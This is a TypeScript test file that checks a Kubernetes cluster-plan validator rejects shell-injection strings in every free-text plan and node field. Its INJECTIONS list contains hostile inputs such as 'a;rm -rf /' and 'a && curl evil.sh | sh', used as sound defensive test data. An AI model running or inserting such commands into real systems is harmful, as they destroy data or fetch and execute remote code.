import { describe, expect, it } from 'vitest';
import type { NodeSpec } from '../model/node';
import type { ClusterPlan } from '../model/plan';
import { guideNodes, guidePlan } from './presets';
import { validatePlan } from './validatePlan';

/** Strings that would do something if they reached a shell, YAML or a repo file unquoted. */
const INJECTIONS = [
  '$(reboot)',
  '`id`',
  'a;rm -rf /',
  'a && curl evil.sh | sh',
  'a|b',
  'a\nb',
  'a b',
  "a'b",
  'a"b',
  '${IFS}',
  'a>b',
  'a<b',
  'a\\b',
  'a#b',
  'a\u0000b',
  'a\u001bb',
  '*',
];

type Setter = (plan: ClusterPlan, value: string) => ClusterPlan;

/** Every free-text plan field and where its error is reported. */
const PLAN_FIELDS: [string, Setter][] = [
  ['clusterName', (p, v) => ({ ...p, clusterName: v })],
  ['kubernetesVersion', (p, v) => ({ ...p, kubernetesVersion: v })],
  ['imageRepository', (p, v) => ({ ...p, imageRepository: v })],
  ['controlPlaneEndpoint', (p, v) => ({ ...p, controlPlaneEndpoint: v })],
  ['advertiseAddress', (p, v) => ({ ...p, advertiseAddress: v })],
  ['podCidr', (p, v) => ({ ...p, podCidr: v })],
  ['serviceCidr', (p, v) => ({ ...p, serviceCidr: v })],
  ['dnsDomain', (p, v) => ({ ...p, dnsDomain: v })],
  ['cni.manifestUrl', (p, v) => ({ ...p, cni: { ...p.cni, manifestUrl: v } })],
  ['mirrors.osPackages', (p, v) => ({ ...p, mirrors: { osPackages: v } })],
  ['mirrors.dockerCe', (p, v) => ({ ...p, mirrors: { dockerCe: v } })],
  ['mirrors.criDockerdReleases', (p, v) => ({ ...p, mirrors: { criDockerdReleases: v } })],
  ['mirrors.kubernetesPackages', (p, v) => ({ ...p, mirrors: { kubernetesPackages: v } })],
  ['mirrors.kubernetesLegacyApt', (p, v) => ({ ...p, mirrors: { kubernetesLegacyApt: v } })],
  ['mirrors.kubernetesLegacyYum', (p, v) => ({ ...p, mirrors: { kubernetesLegacyYum: v } })],
  [
    'mirrors.registries.docker.io',
    (p, v) => ({ ...p, mirrors: { registries: { 'docker.io': v } } }),
  ],
  ['mirrors.registries.ghcr.io', (p, v) => ({ ...p, mirrors: { registries: { 'ghcr.io': v } } })],
  ['mirrors.registries.quay.io', (p, v) => ({ ...p, mirrors: { registries: { 'quay.io': v } } })],
  [
    'mirrors.dockerRegistryMirrors.0',
    (p, v) => ({ ...p, mirrors: { dockerRegistryMirrors: [v] } }),
  ],
  ['ignorePreflightErrors.1', (p, v) => ({ ...p, ignorePreflightErrors: ['swap', v] })],
];

type NodeSetter = (node: NodeSpec, value: string) => NodeSpec;
const NODE_FIELDS: [string, NodeSetter][] = [
  ['name', (n, v) => ({ ...n, name: v })],
  ['address', (n, v) => ({ ...n, address: v })],
  ['user', (n, v) => ({ ...n, user: v })],
  ['labels.role', (n, v) => ({ ...n, labels: { role: v } })],
];

describe('injection strings are refused in every free-text field', () => {
  for (const [field, set] of PLAN_FIELDS) {
    it(`plan field ${field}`, () => {
      for (const bad of INJECTIONS) {
        const errors = validatePlan(set(guidePlan(), bad), { nodes: guideNodes() });
        expect(
          errors.map((e) => e.field),
          JSON.stringify(bad),
        ).toContain(field);
      }
    });
  }

  for (const [field, set] of NODE_FIELDS) {
    it(`node field ${field}`, () => {
      for (const bad of INJECTIONS) {
        const nodes = guideNodes().map((n, i) => (i === 1 ? set(n, bad) : n));
        const errors = validatePlan(guidePlan(), { nodes });
        expect(
          errors.map((e) => e.field),
          JSON.stringify(bad),
        ).toContain(`nodes.1.${field}`);
      }
    });
  }

  it('says why, naming the character', () => {
    const errors = validatePlan({ ...guidePlan(), clusterName: 'a;b' }, { nodes: guideNodes() });
    expect(errors[0]?.message).toBe(
      'clusterName must not contain ";" (shell metacharacters are refused).',
    );
  });

  it('still accepts the ordinary values of every field', () => {
    const plan: ClusterPlan = {
      ...guidePlan(),
      controlPlaneEndpoint: 'k8s-api.lab.local:6443',
      cni: { plugin: 'flannel', manifestUrl: 'https://example.org/kube-flannel.yml' },
      mirrors: {
        osPackages: 'https://mirrors.aliyun.com/ubuntu/',
        registries: { 'docker.io': 'docker.m.daocloud.io' },
        dockerRegistryMirrors: ['https://docker.m.daocloud.io'],
      },
      ignorePreflightErrors: ['Swap', 'FileContent--proc-sys-net-ipv4-ip_forward'],
    };
    expect(validatePlan(plan, { nodes: guideNodes() })).toEqual([]);
  });
});
